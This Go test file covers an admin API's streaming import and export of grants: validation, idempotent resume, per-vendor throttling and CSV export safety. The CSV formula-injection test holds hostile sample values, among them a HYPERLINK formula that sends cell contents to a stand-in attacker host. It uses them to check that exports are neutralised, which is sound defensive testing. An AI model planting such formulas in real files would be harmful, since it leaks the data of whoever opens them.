package admin_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

const importPath, exportPath = defaultPath + "/import", defaultPath + "/export"

// streamed is the response to a stream of grants.
type streamed struct {
	ImportID                              string
	Position, Created, Failed, MoreErrors int
	Changed, Unchanged, Removed           int
	Replaced                              bool
	Errors                                []struct {
		Line           int
		Field, Message string
	}
}

// serve serves the API over a real connection.
func (b *fixture) serve() *httptest.Server {
	b.Helper()
	server := httptest.NewServer(b.handler)
	b.Cleanup(server.Close)
	return server
}

// stream sends a body of any length and reads the response.
func stream(t *testing.T, server *httptest.Server, method, path, kind, key string, body io.Reader) (*http.Response, []byte, error) {
	t.Helper()
	request, err := http.NewRequestWithContext(t.Context(), method, server.URL+path, body)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("X-Test-Vendor", "acme")
	if kind != "" {
		request.Header.Set("Content-Type", kind)
	}
	if key != "" {
		request.Header.Set("Idempotency-Key", key)
	}
	response, err := server.Client().Do(request)
	if err != nil {
		return nil, nil, err
	}
	defer response.Body.Close()
	answer, err := io.ReadAll(response.Body)
	return response, answer, err
}

func (b *fixture) importStream(server *httptest.Server, kind, key, body string) streamed {
	b.Helper()
	response, answer, err := settled(b.T, server, kind, key, body)
	if err != nil || response.StatusCode != http.StatusOK {
		b.Fatalf("%v, %v: %s", response, err, answer)
	}
	var done streamed
	if err := json.Unmarshal(answer, &done); err != nil {
		b.Fatal(err)
	}
	return done
}

// settled repeats a stream until no earlier one with its key is in progress: the
// server notices a disconnect with delay.
func settled(t *testing.T, server *httptest.Server, kind, key, body string) (response *http.Response, answer []byte, err error) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; {
		response, answer, err = stream(t, server, http.MethodPost, importPath, kind, key, strings.NewReader(body))
		if err != nil || response.StatusCode != http.StatusConflict || time.Now().After(deadline) {
			return response, answer, err
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// Invalid rows are reported by line and skipped. An export can be imported again
// in either format.
func TestStreamOfGrants(t *testing.T) {
	b := newFixture(t, false)
	server := b.serve()
	done := b.importStream(server, "application/x-ndjson; charset=utf-8", "", `{"userId":"a","sku":"s"}

{"userId":"b"}
not JSON
{"userId":"c","sku":"s","sku":"t"}
{"id":"grant_1","source":"src_other","createdAt":"2020-01-01T00:00:00Z","userId":"d","sku":"s","extraFields":{"a":"1"},"deliveryAddress":{"city":"Town"}}
[{"userId":"e","sku":"s"}]
{"userId":"f","sku":"s","price":1}`)
	var reported []string
	for _, e := range done.Errors {
		reported = append(reported, fmt.Sprintf("%d %s", e.Line, e.Field))
	}
	if got, want := strings.Join(reported, ", "), "3 sku, 4 , 5 , 7 , 8 price"; got != want || done.Created != 2 || done.Failed != 5 || done.Position != 7 {
		t.Errorf("%+v, wrong are %q, want %q", done, got, want)
	}
	b.call(http.MethodGet, defaultPath+"/imports/"+done.ImportID, "").want(http.StatusOK, nil)
	done = b.importStream(server, "text/csv", "", "\ufeffuserId,sku,deliveryAddress.city,excludeFromStats\ng,s,\"Big, Town\",true\nh,,,\ni,s\n")
	if done.Created != 1 || len(done.Errors) != 2 || done.Errors[0].Line != 3 || done.Errors[1].Line != 4 {
		t.Errorf("a CSV file: %+v", done)
	}
	for accept, kind := range map[string]string{"": "application/x-ndjson", "text/csv": "text/csv", "text/html, text/csv;q=0.5": "text/csv", "text/csv;q=0, */*": "application/x-ndjson"} {
		var header http.Header
		if accept != "" {
			header = http.Header{"Accept": {accept}}
		}
		exported := b.send("acme", http.MethodGet, exportPath, "", header).want(http.StatusOK, nil)
		if !strings.HasPrefix(exported.head.Get("Content-Type"), kind) || !strings.Contains(exported.body, "Big, Town") {
			t.Errorf("%s: %v %s", accept, exported.head, exported.body)
		}
		b.clock = b.clock.Add(time.Second)
		if again := b.importStream(server, kind, "", exported.body); again.Unchanged != 3 || again.Created != 0 || again.Failed != 0 {
			t.Errorf("%s: imported again: %+v", accept, again)
		}
	}
	b.send("acme", http.MethodGet, exportPath, "", http.Header{"Accept": {"text/html"}}).refused(http.StatusNotAcceptable, "not_acceptable", "")
}

func TestStreamsAreRefused(t *testing.T) {
	b := newFixture(t, false)
	row := `{"userId":"a","sku":"s"}`
	for _, c := range []struct {
		vendor, method, path, kind, scope string
		status                            int
		code                              string
	}{
		{"acme", http.MethodPost, importPath, "application/json", "", 415, "unsupported_media_type"},
		{"acme", http.MethodPost, importPath, "text/plain", "", 415, "unsupported_media_type"},
		{"acme", http.MethodPost, importPath, "", "", 415, "unsupported_media_type"},
		{"acme", http.MethodPost, listsPath + "/src_none/grants/import", "text/csv", "", 404, "not_found"},
		{"acme", http.MethodPost, importPath, "text/csv", "grants:read", 403, "forbidden"},
		{"", http.MethodPost, importPath, "text/csv", "", 401, "unauthorized"},
		{"acme", http.MethodGet, listsPath + "/src_none/grants/export", "", "", 404, "not_found"},
		{"acme", http.MethodGet, exportPath, "", "grants:write", 403, "forbidden"},
		// A JSON operation accepts no stream.
		{"acme", http.MethodPost, defaultPath, "application/x-ndjson", "", 415, "unsupported_media_type"},
	} {
		header := http.Header{}
		if c.kind != "" {
			header.Set("Content-Type", c.kind)
		}
		if c.scope != "" {
			header.Set("X-Test-Scope", c.scope)
		}
		b.send(c.vendor, c.method, c.path, row, header).refused(c.status, c.code, "")
	}
	csv := http.Header{"Content-Type": {"text/csv"}}
	for body, detail := range map[string]string{
		"":                         "header",
		"userId,price\na,1":        "price",
		"userId,sku\na,s\n\"b,s":   "0 rows are stored",
		"userId,sku,userId\na,s,b": "twice",
		"userId\na":                "sku",
	} {
		if p := b.send("acme", http.MethodPost, importPath, body, csv).refused(http.StatusBadRequest, "bad_request", ""); !strings.Contains(p.Detail, detail) {
			t.Errorf("%q: %s", body, p.Detail)
		}
	}
	// An unclosed quote does not make one row of the rest.
	endless := "userId,sku\na,s\n\"" + strings.Repeat("x\n", 2<<20)
	if p := b.send("acme", http.MethodPost, importPath, endless, csv).refused(http.StatusBadRequest, "bad_request", ""); !strings.Contains(p.Detail, "longer than") {
		t.Errorf("an endless row: %s", p.Detail)
	}
	long := `{"userId":"` + strings.Repeat("x", 2<<20) + `"}`
	if got := b.send("acme", http.MethodPost, importPath, long, http.Header{"Content-Type": {"application/x-ndjson"}}).want(http.StatusOK, nil); !strings.Contains(got.body, `"line":1,"message":"is longer`) {
		t.Errorf("a long line: %s", got.body)
	}
	if exported := b.send("other", http.MethodGet, exportPath, "", nil).want(http.StatusOK, nil); exported.body != "" {
		t.Errorf("another vendor reads %s", exported.body)
	}
}

// manyRows are rows of which every hundredth is invalid.
func manyRows(n int) string {
	var rows strings.Builder
	for i := range n {
		sku := "premium"
		if i%100 == 99 {
			sku = ""
		}
		fmt.Fprintf(&rows, "{\"userId\":\"u%d\",\"sku\":%q}\n", i, sku)
	}
	return rows.String()
}

// A stream is interrupted more than once. Sent again with its key it continues:
// each row is stored once, and the response is that of an uninterrupted stream.
func TestInterruptedStreamContinues(t *testing.T) {
	b := newFixture(t, false)
	server := b.serve()
	rows := manyRows(5_200)
	cut := errors.New("the line dropped")
	for _, sent := range []int{len(rows) * 99 / 100, len(rows) / 3} {
		_, _, err := stream(t, server, http.MethodPost, importPath, "application/x-ndjson", "k",
			io.MultiReader(strings.NewReader(rows[:sent]), failingReader{cut}))
		if !errors.Is(err, cut) {
			t.Fatalf("the stream was not cut: %v", err)
		}
	}
	whole := b.importStream(server, "application/x-ndjson", "k", rows)
	if whole.Position != 5_200 || whole.Created != 5_148 || whole.Failed != 52 || len(whole.Errors) != 52 || whole.Errors[1].Line != 200 {
		t.Errorf("the stream made %+v", whole)
	}
	if again := b.importStream(server, "application/x-ndjson", "k", rows); !reflect.DeepEqual(again, whole) {
		t.Errorf("first %+v, again %+v", whole, again)
	}
	exported := b.send("acme", http.MethodGet, exportPath, "", nil).want(http.StatusOK, nil)
	seen := map[string]bool{}
	for line := range strings.Lines(exported.body) {
		var grant struct{ UserID string }
		if err := json.Unmarshal([]byte(line), &grant); err != nil {
			t.Fatal(err)
		}
		if seen[grant.UserID] {
			t.Fatalf("%s has two grants", grant.UserID)
		}
		seen[grant.UserID] = true
	}
	if len(seen) != 5_148 {
		t.Errorf("there are %d grants", len(seen))
	}
	// A longer stream with the same key continues; a shorter one and one with
	// other rows are refused.
	for name, other := range map[string]string{
		"other rows": strings.Replace(rows, `"u17"`, `"u18"`, 1),
		"fewer rows": manyRows(100),
		"none":       "",
	} {
		response, answer, err := settled(t, server, "application/x-ndjson", "k", other)
		if err != nil || response.StatusCode != http.StatusUnprocessableEntity || !bytes.Contains(answer, []byte("idempotency_key_reused")) {
			t.Errorf("%s: %v, %v, %s", name, response, err, answer)
		}
	}
	if longer := b.importStream(server, "application/x-ndjson", "k", rows+manyRows(10)); longer.Created != 5_158 {
		t.Errorf("a longer stream made %+v", longer)
	}
}

type failingReader struct{ err error }

func (f failingReader) Read([]byte) (int, error) { return 0, f.err }

// waitingBody is the body of a slow client.
type waitingBody struct {
	begun, end chan struct{}
	once       sync.Once
}

func (w *waitingBody) Read([]byte) (int, error) {
	w.once.Do(func() { w.begun <- struct{}{} })
	<-w.end
	return 0, io.EOF
}

// The slow streams of one vendor do not block those of others.
func TestSlowStreamsDoNotBlockOthers(t *testing.T) {
	b := newFixture(t, false)
	begun, end := make(chan struct{}), make(chan struct{})
	var group sync.WaitGroup
	codes := make([]int, 4)
	for i := range codes {
		group.Go(func() {
			request := httptest.NewRequestWithContext(t.Context(), http.MethodPost, importPath, &waitingBody{begun: begun, end: end})
			request.Header.Set("Content-Type", "application/x-ndjson")
			request.Header.Set("X-Test-Vendor", "acme")
			recorder := httptest.NewRecorder()
			b.handler.ServeHTTP(recorder, request)
			codes[i] = recorder.Code
		})
		<-begun
	}
	full := b.send("acme", http.MethodGet, exportPath, "", nil).want(http.StatusTooManyRequests, nil)
	if full.head.Get("Retry-After") == "" || !strings.Contains(full.body, `"code":"too_many_requests"`) {
		t.Errorf("the refusal does not say when to try again: %v %s", full.head, full.body)
	}
	b.send("other", http.MethodGet, exportPath, "", nil).want(http.StatusOK, nil)
	close(end)
	group.Wait()
	for _, code := range codes {
		if code != http.StatusOK {
			t.Errorf("a slow stream ended with %d", code)
		}
	}
	b.send("acme", http.MethodGet, exportPath, "", nil).want(http.StatusOK, nil)
}

// A spreadsheet evaluates no cell of an export, and its import restores every text. The
// API takes no control characters, so no text begins with a tab.
func TestExportsCarryNoFormula(t *testing.T) {
	b := newFixture(t, false)
	server := b.serve()
	texts := []string{"=1+1", "@x", "+1", "-1", "'=1", "a;=1", `=HYPERLINK("http://evil.example?"&A1)`}
	for _, text := range texts {
		grant, err := json.Marshal(map[string]any{"userId": text, "sku": text, "extraFields": map[string]string{text: text}})
		if err != nil {
			t.Fatal(err)
		}
		b.call(http.MethodPost, defaultPath, string(grant)).want(http.StatusCreated, nil)
	}
	export := func() string {
		return b.send("acme", http.MethodGet, exportPath, "", http.Header{"Accept": {"text/csv"}}).want(http.StatusOK, nil).body
	}
	users := func(file string) (read []string) {
		rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		column := slices.Index(rows[0], "userId")
		for _, row := range rows[1:] {
			read = append(read, row[column])
			for _, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r\n") == 0 {
					t.Errorf("the cell %q is evaluated", cell)
				}
			}
		}
		slices.Sort(read)
		return read
	}
	file := export()
	first := users(file)
	b.clock = b.clock.Add(time.Second)
	if again := b.importStream(server, "text/csv", "", file); again.Unchanged != len(texts) || again.Failed != 0 {
		t.Fatalf("imported again: %+v", again)
	}
	if got := users(export()); !slices.Equal(got, first) {
		t.Errorf("after the import: %q, want %q", got, first)
	}
}
